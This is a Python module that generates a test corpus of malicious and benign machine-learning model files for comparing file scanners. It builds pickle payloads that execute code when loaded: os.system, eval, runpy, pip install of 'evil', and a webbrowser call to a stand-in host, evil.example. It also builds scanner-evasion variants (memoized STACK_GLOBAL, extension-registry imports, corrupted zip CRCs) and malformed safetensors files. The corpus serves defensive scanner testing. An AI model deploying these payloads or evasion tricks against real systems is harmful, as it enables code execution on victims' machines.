"""A corpus of malicious and benign model files for inspection tests and the scanner comparison (issue 17).

Built with the standard library only (no torch, numpy or keras): the files have the byte layout those
libraries write. Every sample is named by what it is; `expected` says whether a loader would run code or
read a lie (True: must be refused) and why.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import struct
import sys
import types
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Sample:
    name: str  # the file name in the corpus (names lie on purpose: the content decides)
    data: bytes
    malicious: bool
    why: str


class _Call:
    """Pickles as a call of `func(*args)` when loaded (the __reduce__ protocol every attack uses)."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.func, self.args


def _pickled(obj: object, protocol: int = 4) -> bytes:
    return pickle.dumps(obj, protocol=protocol)


def _op(code: bytes, text: str = "") -> bytes:
    return code + (struct.pack("<B", len(text)) + text.encode() if text else b"")


def stack_global_via_memo() -> bytes:
    """`os.system` assembled from memoized strings fetched back after unrelated opcodes: the module and name
    are not the two opcodes before STACK_GLOBAL."""
    return (
        b"\x80\x04"
        + _op(b"\x8c", "os")
        + b"\x94"  # MEMOIZE -> 0
        + _op(b"\x8c", "system")
        + b"\x94"  # MEMOIZE -> 1
        + b"0" * 2  # POP POP
        + b"}"  # EMPTY_DICT (noise)
        + b"0"  # POP
        + b"h\x00h\x01"  # BINGET 0, BINGET 1
        + b"\x93"  # STACK_GLOBAL
        + _op(b"\x8c", "id")
        + b"\x85R."  # TUPLE1 REDUCE STOP
    )


def protocol0_inst() -> bytes:
    """Protocol 0, no header: INST imports and calls in one opcode."""
    return b"(S'id'\nios\nsystem\n."


def builtins_eval() -> bytes:
    return _pickled(_Call(eval, "__import__('os').system('id')"))


def runpy_call() -> bytes:
    import runpy

    return _pickled(_Call(runpy.run_path, "/tmp/x.py"))


def pip_main() -> bytes:
    """A callable no denylist names (picklescan's CVE-2025-1716 class): only an allowlist refuses it."""
    fake = types.ModuleType("pip")
    fake.main = lambda *a: None  # type: ignore[attr-defined]
    with _fake_modules({"pip": fake}):
        fake.main.__module__, fake.main.__qualname__ = "pip", "main"
        return _pickled(_Call(fake.main, ["install", "evil"]))


def webbrowser_open() -> bytes:
    import webbrowser

    return _pickled(_Call(webbrowser.open, "http://evil.example/"))


def extension_registry() -> bytes:
    """EXT1: an import by number from copyreg's extension registry (nothing names the callable)."""
    return b"\x80\x02\x82\x01)R."


@contextmanager
def _fake_modules(modules: dict[str, types.ModuleType]) -> Iterator[None]:
    saved = {name: sys.modules.get(name) for name in modules}
    sys.modules.update(modules)
    try:
        yield
    finally:
        for name, module in saved.items():
            if module is None:
                sys.modules.pop(name, None)
            else:
                sys.modules[name] = module


def torch_state_dict(extra: object | None = None) -> bytes:
    """The data.pkl torch.save writes for a state dict of plain tensors: torch._utils._rebuild_tensor_v2 over
    persistent storages (`('storage', torch.FloatStorage, '0', 'cpu', n)`), in an OrderedDict."""
    utils = types.ModuleType("torch._utils")
    torch = types.ModuleType("torch")

    def _rebuild_tensor_v2(*args: object) -> None:
        return None

    class FloatStorage:
        pass

    _rebuild_tensor_v2.__module__, _rebuild_tensor_v2.__qualname__ = "torch._utils", "_rebuild_tensor_v2"
    FloatStorage.__module__, FloatStorage.__qualname__ = "torch", "FloatStorage"
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2  # type: ignore[attr-defined]
    torch.FloatStorage = FloatStorage  # type: ignore[attr-defined]
    torch._utils = utils  # type: ignore[attr-defined]

    class Storage:
        def __init__(self, key: str, n: int) -> None:
            self.key, self.n = key, n

    class Pickler(pickle.Pickler):
        def persistent_id(self, obj: object) -> object:
            if isinstance(obj, Storage):
                return ("storage", FloatStorage, obj.key, "cpu", obj.n)
            return None

    state: OrderedDict[str, object] = OrderedDict()
    for i, shape in enumerate([(4, 4), (4,)]):
        state[f"layer{i}.weight"] = _Call(_rebuild_tensor_v2, Storage(str(i), 16), 0, shape, (1,), False, OrderedDict())
    if extra is not None:
        state["__extra__"] = extra
    with _fake_modules({"torch": torch, "torch._utils": utils}):
        buffer = io.BytesIO()
        Pickler(buffer, protocol=2).dump(state)
    return buffer.getvalue()


def torch_zip(data_pkl: bytes, member: str = "archive/data.pkl") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as z:
        z.writestr(member, data_pkl)
        z.writestr("archive/version", "3\n")
        z.writestr("archive/data/0", os.urandom(64))
        z.writestr("archive/data/1", os.urandom(16))
    return buffer.getvalue()


def bad_crc_zip(data_pkl: bytes) -> bytes:
    """A PyTorch zip whose data.pkl has a wrong CRC: some scanners skip what zipfile refuses to read; a
    loader that does not check CRCs still unpickles it."""
    raw = bytearray(torch_zip(data_pkl))
    header = raw.find(b"PK\x01\x02")  # the central directory entry of the first member (data.pkl)
    crc_at = header + 16
    raw[crc_at : crc_at + 4] = b"\x00\x00\x00\x00"
    local_crc = raw.find(b"PK\x03\x04") + 14
    raw[local_crc : local_crc + 4] = b"\x00\x00\x00\x00"
    return bytes(raw)


def npy(descr: str, shape: tuple[int, ...], data: bytes) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + data


def safetensors(
    tensors: dict[str, tuple[str, list[int], bytes]], header_patch: Callable[[dict[str, object]], None] | None = None
) -> bytes:
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    body = b""
    for name, (dtype, shape, data) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(body), len(body) + len(data)]}
        body += data
    if header_patch is not None:
        header_patch(header)
    encoded = json.dumps(header).encode()
    return struct.pack("<Q", len(encoded)) + encoded + body


def keras(layers: list[dict[str, object]]) -> bytes:
    config = {"class_name": "Functional", "config": {"name": "model", "layers": layers}, "module": "keras"}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
    return buffer.getvalue()


def gguf() -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 0)


def onnx() -> bytes:
    graph = b"\x0a\x04node"  # a GraphProto with one (nonsense) field: the top level is what is checked
    return b"\x08\x07" + b"\x12\x04test" + b"\x3a" + bytes([len(graph)]) + graph + b"\x42\x04\x08\x11\x10\x00"


DENSE = (
    "F32",
    [2, 2],
    struct.pack("<4f", 1, 2, 3, 4),
)


def corpus() -> list[Sample]:
    evil = _pickled(_Call(os.system, "id"))
    return [
        # --- malicious: code runs when loaded
        Sample("reduce-p0.pkl", _pickled(_Call(os.system, "id"), 0), True, "os.system, protocol 0"),
        Sample("reduce-p2.bin", _pickled(_Call(os.system, "id"), 2), True, "os.system, protocol 2, named .bin"),
        Sample("reduce-p5.pt", _pickled(_Call(os.system, "id"), 5), True, "os.system, protocol 5"),
        Sample("stack-global-memo.pkl", stack_global_via_memo(), True, "STACK_GLOBAL from memoized strings"),
        Sample("inst-p0.data", protocol0_inst(), True, "INST opcode, protocol 0, no header"),
        Sample("eval.pkl", builtins_eval(), True, "builtins.eval"),
        Sample("runpy.pkl", runpy_call(), True, "runpy.run_path"),
        Sample("pip-main.pkl", pip_main(), True, "pip.main: on no denylist"),
        Sample("webbrowser.pkl", webbrowser_open(), True, "webbrowser.open"),
        Sample("ext-registry.pkl", extension_registry(), True, "EXT1 import by number"),
        Sample("torch-evil.pt", torch_zip(torch_state_dict(_Call(os.system, "id"))), True, "PyTorch zip, os.system"),
        Sample(
            "torch-odd-member.bin",
            torch_zip(evil, "model/weights"),
            True,
            "PyTorch-like zip, pickle member with no .pkl name",
        ),
        Sample("torch-bad-crc.pt", bad_crc_zip(evil), True, "zip member with a wrong CRC"),
        Sample("object-array.npy", npy("|O", (1,), evil), True, "NumPy object array (allow_pickle)"),
        Sample("joblib-evil.joblib", evil + b"\x00" * 32, True, "joblib dump: a pickle"),
        Sample("gzipped.pkl.gz", gzip.compress(evil), True, "gzip-compressed pickle"),
        Sample(
            "keras-lambda.keras",
            keras([{"class_name": "Lambda", "config": {"name": "l", "function": "..."}}]),
            True,
            "Keras Lambda layer",
        ),
        Sample(
            "safetensors-outside.safetensors",
            safetensors({"w": DENSE}, lambda h: h["w"].update(data_offsets=[0, 4096])),  # type: ignore[union-attr]
            True,
            "safetensors offsets beyond the file",
        ),
        Sample(
            "safetensors-overlap.safetensors",
            safetensors({"a": DENSE, "b": DENSE}, lambda h: h["b"].update(data_offsets=[8, 24])),  # type: ignore[union-attr]
            True,
            "safetensors tensors overlap",
        ),
        Sample("safetensors-truncated.safetensors", safetensors({"w": DENSE})[:-6], True, "safetensors truncated"),
        Sample(
            "safetensors-lying-length.safetensors",
            struct.pack("<Q", 2**40) + b'{"w": {}}',
            True,
            "safetensors header length larger than the file",
        ),
        Sample("random.safetensors", os.urandom(4096), True, "random bytes named .safetensors"),
        # --- benign: plain tensors
        Sample("torch-state-dict.pt", torch_zip(torch_state_dict()), False, "PyTorch state dict of plain tensors"),
        Sample(
            "plain.safetensors", safetensors({"w": DENSE, "b": ("F16", [2], b"\x00\x3c\x00\x40")}), False, "safetensors"
        ),
        Sample("float-array.npy", npy("<f4", (4,), struct.pack("<4f", 1, 2, 3, 4)), False, "NumPy float array"),
        Sample("model.gguf", gguf(), False, "GGUF header"),
        Sample("model.onnx", onnx(), False, "ONNX ModelProto"),
        Sample("config.json", json.dumps({"hidden_size": 4}).encode(), False, "JSON configuration"),
        Sample("README.md", b"# A model\n", False, "text"),
        Sample(
            "keras-dense.keras",
            keras([{"class_name": "Dense", "config": {"name": "d"}, "module": "keras.layers"}]),
            False,
            "Keras model without code layers",
        ),
    ]


def write_corpus(directory: Path) -> list[Sample]:
    directory.mkdir(parents=True, exist_ok=True)
    samples = corpus()
    for sample in samples:
        (directory / sample.name).write_bytes(sample.data)
    return samples


SAMPLES_BY_NAME = {sample.name: sample for sample in corpus()}
